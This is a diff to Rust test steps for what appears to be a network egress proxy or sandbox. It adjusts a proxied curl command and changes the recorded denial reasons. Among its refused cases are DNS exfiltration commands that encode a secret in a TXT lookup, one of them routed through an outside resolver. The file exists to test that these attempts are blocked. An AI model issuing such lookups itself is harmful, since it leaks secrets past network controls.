@@ -112,7 +112,7 @@ pub(super) const STEPS: &[Step] = &[
         .request("api.example.com", ""),
     allowed(
         "curl, by explicit proxy",
-        "curl -sS -x http://strait.internal https://www.example.com/proxy",
+        "curl -sS -x http://strait.internal:80 https://www.example.com/proxy",
         "/proxy",
     )
     .request("www.example.com", ""),
@@ -174,14 +174,14 @@ pub(super) const STEPS: &[Step] = &[
         .recorded("connect", "2606:2800:21f:cb07::10", "KERNEL_DESTINATION")
         .at("http", "2606:2800:21f:cb07::10", ""),
     refused("a secret in a TXT lookup", "dig TXT c2VjcmV0.www.example.com", "REFUSED")
-        .recorded("dns", "c2VjcmV0.www.example.com", "DNS_TYPE_REFUSED")
+        .recorded("dns", "c2VjcmV0.www.example.com", "TOOL_CALL_DENIED")
         .at("dns", "c2VjcmV0.www.example.com", ""),
     refused(
         "a lookup by another resolver",
         "dig +tries=1 +time=2 @8.8.8.8 TXT c2VjcmV0.example.net",
         "REFUSED",
     )
-    .recorded("dns", "c2VjcmV0.example.net", "DNS_TYPE_REFUSED")
+    .recorded("dns", "c2VjcmV0.example.net", "TOOL_CALL_DENIED")
     .at("dns", "c2VjcmV0.example.net", ""),
     refused(
         "a TCP stream to a port that no rule names",
